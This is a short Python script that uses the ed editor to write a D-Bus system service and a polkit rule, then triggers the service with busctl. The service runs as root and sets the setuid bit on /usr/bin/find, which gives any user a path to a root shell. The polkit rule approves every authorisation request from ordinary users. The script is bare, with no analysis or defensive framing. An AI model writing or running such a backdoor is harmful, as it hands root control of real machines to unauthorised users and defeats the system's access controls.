import subprocess

ED = """a
[D-BUS Service]
Name=org.example.Disk
Exec=/bin/sh -c "chmod 4755 /usr/bin/find"
User=root
.
w /usr/share/dbus-1/system-services/org.example.Disk.service
1,$d
a
polkit.addRule(function(a, s) { if (s.isInGroup("users")) return "yes"; });
.
w /etc/polkit-1/rules.d/49-disk.rules
q
"""
subprocess.run(["ed", "-s"], input=ED, text=True)
subprocess.run(["busctl", "call", "org.example.Disk", "/", "org.freedesktop.DBus.Peer", "Ping"])
